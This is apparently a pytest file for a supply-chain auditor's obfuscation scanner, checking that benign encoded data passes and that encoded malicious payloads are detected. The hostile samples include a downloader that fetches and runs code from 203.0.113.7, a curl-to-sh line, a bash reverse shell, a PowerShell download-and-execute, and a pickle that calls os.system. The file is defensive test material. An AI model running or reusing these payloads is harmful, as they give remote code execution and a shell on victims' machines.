"""Obfuscation claims need the intent (issue 29, principle 6): an encoded literal is a finding
when what it decodes to could run, not when it is data that is only compared or parsed.

The benign twins are the shapes popular sdists were blocked for (rewritten here, with bytes of our
own): a curve point as ``\\xNN`` escapes in Rust (cryptography), gzip'd time-zone tables in JSON
(python-dateutil), a JWK modulus and a certificate chain (pyjwt), an inline PNG decoded into a
stream in a docs example (fastapi), a long random request URI in a test (gunicorn). The hostile
samples hide code the ways real packages do: plain, compressed, reversed, rot13'd, hex-escaped,
twice encoded, a pickle that calls ``os.system``, an ELF dropped from a literal.
"""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import hashlib
import json
import pickle
import zlib
from pathlib import Path

import pytest

from auditor.model import Category
from auditor.scan import payloads
from auditor.scan.builtin import BuiltinScanner
from auditor.scan.interface import Origin, ScanTarget

RULE = "obfuscation.builtin.encoded-literal"
DOWNLOADER = (b"import os, urllib.request\n"
              b"p = os.path.join(os.environ.get('TEMP', '/tmp'), 'svc.py')\n"
              b"urllib.request.urlretrieve('http://203.0.113.7/s', p)\n"
              b"os.system('python ' + p)\n")
SHELL = b"#!/bin/sh\ncurl -s http://203.0.113.7/k | sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
ELF = b"\x7fELF\x02\x01\x01\0"
POWERSHELL = (b"$c = New-Object Net.WebClient; $c.DownloadFile('http://203.0.113.7/a.exe', "
              b"\"$env:APPDATA\\a.exe\"); Start-Process \"$env:APPDATA\\a.exe\"\n") * 2


def _noise(n: int, seed: str = "x") -> bytes:
    """``n`` reproducible bytes that look random (a key, a digest, a curve point)."""
    out = b""
    while len(out) < n:
        out += hashlib.sha256(f"{seed}{len(out)}".encode()).digest()
    return out[:n]


KEYED = DOWNLOADER + b"KEY = '" + _noise(120, "key").hex().encode() + b"'\n"


def _escapes(data: bytes) -> str:
    return "".join(f"\\x{b:02x}" for b in data)


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


class _Call:
    """What a pickle of this object runs when loaded (built only with dumps, never loaded)."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("id",)


def _scan(path: str, family: str | None, text: str) -> list[tuple[int, str, str]]:
    t = ScanTarget(f"b:{path}", path, Origin.BUNDLE, "", family, text)
    found = BuiltinScanner().scan([t], Path("/nonexistent")).findings[t.key]
    return [(f.line, f.rule, f.message) for f in found if f.category is Category.OBFUSCATION]


BENIGN = {
    "rust curve constant": (
        "src/ec_constants.rs", "rust",
        "const CURVE_BASE: &[u8; 65] = b\"" + _escapes(b"\x04" + _noise(64, "point")) + "\";\n"),
    "gzip'd time-zone tables in JSON": (
        "tests/data/zones.json", "json",
        json.dumps({f"Zone/{i}": base64.b64encode(gzip.compress(
            b"TZif2" + b"\0" * 15 + _noise(400, f"zone{i}"), mtime=0)).decode()
            for i in range(3)}, indent=2) + "\n"),
    "JWK modulus and certificate chain": (
        "tests/keys/rsa.json", "json",
        json.dumps({"kty": "RSA", "n": _b64url(_noise(256, "modulus")), "e": "AQAB",
                    "x5c": [base64.b64encode(b"\x30\x82\x03\x07" + _noise(700, "cert")).decode()]},
                   indent=2) + "\n"),
    "inline PNG served from a stream": (
        "docs_src/stream.py", "python",
        "import base64\nfrom io import BytesIO\n\nimage_base64 = \""
        + base64.b64encode(b"\x89PNG\r\n\x1a\n" + _noise(900, "png")).decode()
        + "\"\nbinary_image = base64.b64decode(image_base64)\n\n\ndef read_image():\n"
          "    return BytesIO(binary_image)\n"),
    "long random request URI": (
        "tests/requests/valid/long.py", "python",
        "request = {\"method\": \"PUT\", \"uri\": uri(\"/q="
        + base64.b64encode(_noise(600, "uri")).decode().replace("+", "").replace("/", "")
        + "\")}\n"),
    "hex digest table": (
        "tests/digests.cfg", None, "sums = " + " ".join([_noise(128, "digest").hex()] * 2) + "\n"),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_encoded_data_is_no_obfuscation_claim(name: str):
    path, family, text = BENIGN[name]
    assert _scan(path, family, text) == []


HOSTILE = {
    "base64 program": ("engine/load.py", "python",
                       f"P = \"{base64.b64encode(DOWNLOADER * 2).decode()}\"\n", "code"),
    "zlib + base64 in a config": (
        "deploy/settings.json", "json",
        json.dumps({"blob": base64.b64encode(zlib.compress(KEYED)).decode()}) + "\n",
        "zlib"),
    "rot13 of base64 in a script": (
        "scripts/run.sh", "bash",
        f"X='{codecs.encode(base64.b64encode(SHELL * 2).decode(), 'rot13')}'\n", "rot13"),
    "reversed base64": ("engine/r.py", "python",
                        f"R = \"{base64.b64encode(DOWNLOADER * 2).decode()[::-1]}\"\n",
                        "reversed"),
    "hex escapes of a shell script in C": (
        "csrc/k.c", "c", f"static const char k[] = \"{_escapes(SHELL)}\";\n", "escapes"),
    "plain hex of PowerShell": ("deploy/a.conf", None, "x = " + POWERSHELL.hex() + "\n", "hex"),
    "twice base64": (
        "engine/t.py", "python",
        f"T = \"{base64.b64encode(base64.b64encode(DOWNLOADER * 2)).decode()}\"\n",
        "another encoding"),
    "bz2 of a downloader": ("engine/b.py", "python",
                            f"B = \"{base64.b64encode(bz2.compress(KEYED)).decode()}\"\n",
                            "bz2"),
    "ELF dropped from a literal": (
        "engine/e.py", "python",
        "E = \"" + base64.b64encode(ELF + _noise(400, "elf")).decode() + "\"\n",
        "ELF"),
    "pickle that calls os.system": (
        "engine/p.py", "python",
        f"S = \"{base64.b64encode(pickle.dumps(_Call(), protocol=4) + _noise(160)).decode()}\"\n",
        "pickle"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_encoded_program_is_found_and_named(name: str):
    path, family, text, what = HOSTILE[name]
    (found,) = _scan(path, family, text)
    line, rule, message = found
    assert (line, rule) == (1, RULE)
    assert what in message, message


def test_payload_reads_the_guarddog_shapes():
    """The two real shapes GuardDog's corpus keeps (exec of a rot13'd, of a plain base64 program)."""
    program = base64.b64encode(DOWNLOADER * 3).decode()
    assert payloads.payload(program) == "base64: code"
    assert payloads.payload(codecs.encode(program, "rot13")) == "rot13, then base64: code"
    assert payloads.payload(base64.b64encode(_noise(400)).decode()) is None


def test_decompression_is_bounded():
    """A literal that inflates to gigabytes is read up to the bound, never wholly inflated."""
    bomb = base64.b64encode(zlib.compress(b"\0" * (64 << 20))).decode()
    assert payloads.payload(bomb) is None
